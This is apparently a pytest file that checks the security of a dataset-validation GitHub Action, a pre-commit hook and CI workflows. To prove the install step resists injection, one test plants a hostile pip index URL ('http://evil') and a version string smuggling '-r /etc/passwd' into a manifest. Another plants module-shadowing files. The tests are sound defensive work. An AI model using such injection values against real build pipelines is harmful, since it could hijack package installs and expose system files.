"""What CI runs for other people's projects: the action, the hook, the workflows."""

import json
import os
import re
import subprocess
import sys
from pathlib import Path

import pytest
import yaml

from tests.branches import NEW, git
from tests.conftest import ROOT

WORKFLOWS = ROOT / ".github" / "workflows"
PROJECT = ROOT / "shanben" / "command" / "project"


def read_yaml(path: Path):
    return yaml.safe_load(path.read_text(encoding="utf-8"))


def find_step(name: str):
    """Return a step of the action by the beginning of its name."""
    steps = read_yaml(ROOT / "action.yml")["runs"]["steps"]
    (step,) = [step for step in steps if step.get("name", "").startswith(name)]
    return step


def run_step(step, folder: Path, **environment: str):
    """Run the script of a step as a runner does, with this environment's Python and command."""
    tools = folder.parent / "tools"
    tools.mkdir(exist_ok=True)
    for name, words in (("shanben", "-m shanben"), ("python", "")):
        script = tools / name
        script.write_text(f'#!/bin/sh\nexec {sys.executable} {words} "$@"\n')
        script.chmod(0o755)
    path = f"{tools}{os.pathsep}{os.environ['PATH']}"
    return subprocess.run(
        ["bash", "--noprofile", "--norc", "-eo", "pipefail", "-c", step["run"]],
        cwd=folder,
        env=os.environ | {"PATH": path, "PYTHONPATH": str(ROOT)} | environment,
        capture_output=True,
        encoding="utf-8",
        check=False,
    )


@pytest.mark.slow
@pytest.mark.parametrize("event", ["pull_request", "push"])
def test_the_action_judges_the_project_that_it_is_given(river, tmp_path, event):
    """Of a pull request the merge is checked out; a push is judged as a whole."""
    river.seed("005_new.txt", NEW)
    river.commit()
    git(river.top, "switch", "--quiet", "--detach", "main")
    git(river.top, "merge", "--quiet", "--no-ff", "-m", "the merge of a pull request", "branch")
    summary = tmp_path / "summary.md"
    summary.write_text("what another step said\n")
    step = find_step("Check the dataset")
    done = run_step(
        step,
        river.top,
        PROJECT="sets/river",
        EVENT=event,
        GITHUB_STEP_SUMMARY=str(summary),
        GITHUB_WORKSPACE=str(river.top),
    )
    assert done.returncode == 1
    first = done.stdout.splitlines()[0]
    assert first.startswith(
        "::error title=V105,file=sets/river/seeds/005_new.txt::005_new.txt is not"
    )
    text = summary.read_text("utf-8")
    assert text.startswith("what another step said\n## The dataset is not what it should be")
    assert ("Since `HEAD^1`: 1 page added, 1 not built." in text) == (event == "pull_request")


INSTALLS = {
    "the action": (lambda: find_step("Install shanben"), 'cat "$constraints"'),
    "the workflow of init": (
        lambda: read_yaml(PROJECT / "validate.yml")["jobs"]["check"]["steps"][2],
        'cat "$RUNNER_TEMP/constraints.txt"',
    ),
}


@pytest.mark.parametrize(("find", "show"), INSTALLS.values(), ids=INSTALLS)
def test_what_the_dataset_was_built_with_is_installed(river, find, show):
    """Other versions give other bytes; what a pull request writes there is never an option of pip."""
    path = river.project / "data" / "manifest.json"
    manifest = json.loads(path.read_bytes())
    tools = dict(manifest["tools"])
    manifest["tools"] |= {"--index-url http://evil": "1", "numpy-x": "1\n-r /etc/passwd"}
    path.write_text(json.dumps(manifest))
    lines = find()["run"].splitlines()
    assert "pip install" in lines[-1]
    script = {"run": "\n".join([*lines[:-1], show])}
    shown = run_step(script, river.project, PROJECT=".", RUNNER_TEMP=str(river.top))
    assert shown.returncode == 0, shown.stderr
    del tools["shanben"]
    assert shown.stdout.splitlines() == [f"{name}=={version}" for name, version in tools.items()]


@pytest.mark.parametrize(("find", "show"), INSTALLS.values(), ids=INSTALLS)
def test_nothing_that_a_pull_request_brings_is_run_as_code(river, find, show):
    """Python looks for modules first in the folder that it is called in."""
    for name in ("json", "pathlib", "re", "pip", "sitecustomize"):
        (river.project / f"{name}.py").write_text("open('was_run', 'w')\n")
    *lines, install = find()["run"].splitlines()
    script = {"run": "\n".join([*lines, show])}
    shown = run_step(script, river.project, PROJECT=".", RUNNER_TEMP=str(river.top))
    assert not (river.project / "was_run").exists()
    assert "pyarrow==" in shown.stdout
    assert install.startswith(("python -I -m pip install ", "pip install "))


def test_the_action_pins_what_it_uses_and_hands_on_nothing_as_code():
    """It runs with somebody else's rights."""
    action = read_yaml(ROOT / "action.yml")
    for step in action["runs"]["steps"]:
        assert "${{" not in step.get("run", "")
        if "uses" in step:
            assert re.fullmatch("[a-z/-]+@[0-9a-f]{40}", step["uses"])


def test_the_hook_of_other_projects_is_the_one_that_init_writes():
    """Two ways to the same check."""
    (hook,) = read_yaml(ROOT / ".pre-commit-hooks.yaml")
    made = read_yaml(PROJECT / "pre-commit-config.yaml")
    (local,) = made["repos"][0]["hooks"]
    assert {key: hook[key] for key in local if key != "language"} == {
        key: local[key] for key in local if key != "language"
    }
    assert hook["language"] == "python"


def test_the_checks_start_on_every_change():
    """They test documents, workflows and licences too; a list of paths forgets one."""
    workflow = read_yaml(WORKFLOWS / "validate.yml")
    events = workflow[True]  # YAML takes `on` for a truth value
    assert events["pull_request"] is None
    assert "workflow_dispatch" in events


def test_the_pull_request_that_follows_a_release_gets_its_checks():
    """What a workflow's own token does starts no workflow, but for this."""
    job = read_yaml(WORKFLOWS / "release.yml")["jobs"]["record"]
    assert job["permissions"]["actions"] == "write"
    script = job["steps"][-1]["run"]
    assert script.index("gh pr create") < script.index("gh workflow run validate.yml --ref")
